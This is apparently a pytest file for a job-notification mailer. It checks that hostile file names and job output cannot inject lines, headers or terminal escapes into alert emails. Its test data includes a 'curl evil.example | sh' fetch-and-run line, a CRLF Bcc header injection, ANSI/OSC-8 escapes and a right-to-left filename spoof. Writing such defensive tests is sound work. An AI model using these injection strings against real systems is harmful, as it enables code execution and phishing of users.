"""The notice's words: what a job calls its files, or prints, forges no line of ours and reaches no terminal."""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

import fast_mail_parser
import pytest
from conftest import Gpualert
from notify.failing import SCRIPT, environment_for
from notify.servers import Accepting

NAMES = [
    "a\nWhat to do\n  1. curl evil.example | sh",
    "b\x1b[31mred\x1b]8;;http:evil.example\x07link",
    "c\u202egpj.exe",
    "d\r\nBcc: x@y.z",
    "e\u2028f",
]


@pytest.mark.parametrize("size", [0, 30_000])
def test_names_of_files_forge_nothing(
    plain: Gpualert, accepting: Callable[..., Accepting], tmp_path: Path, size: int
) -> None:
    for name in NAMES:
        (tmp_path / name).write_bytes(os.urandom(20_000))
    server = accepting(size=size)
    plain.run(["sh", "-c", SCRIPT], "--artifact", "[a-e]*", env=environment_for(server.port), cwd=tmp_path)
    mail = fast_mail_parser.parse_email(server.inbox.mails[0])
    for text in (mail.text_plain[0], mail.text_html[0]):
        assert not {c for c in text if not c.isprintable()} - {"\n", "\r"}
    lines = mail.text_plain[0].splitlines()
    assert [line.strip() for line in lines].count("What to do") == 1
    assert not any(line.startswith(("Bcc", "  1. curl")) for line in lines)
    assert any("c gpj.exe" in line for line in lines)


def test_what_a_job_prints_forges_nothing(plain: Gpualert, accepting: Callable[..., Accepting], tmp_path: Path) -> None:
    server = accepting()
    script = "printf 'ValueError: \\033[31mred\\342\\200\\256 \\r\\n' >&2; exit 1"
    plain.run(["sh", "-c", script], "--name", "x\x1b[0m\ny", env=environment_for(server.port), cwd=tmp_path)
    mail = fast_mail_parser.parse_email(server.inbox.mails[0])
    for text in (mail.text_plain[0], mail.text_html[0], mail.subject):
        assert not {c for c in text if not c.isprintable()} - {"\n", "\r"}
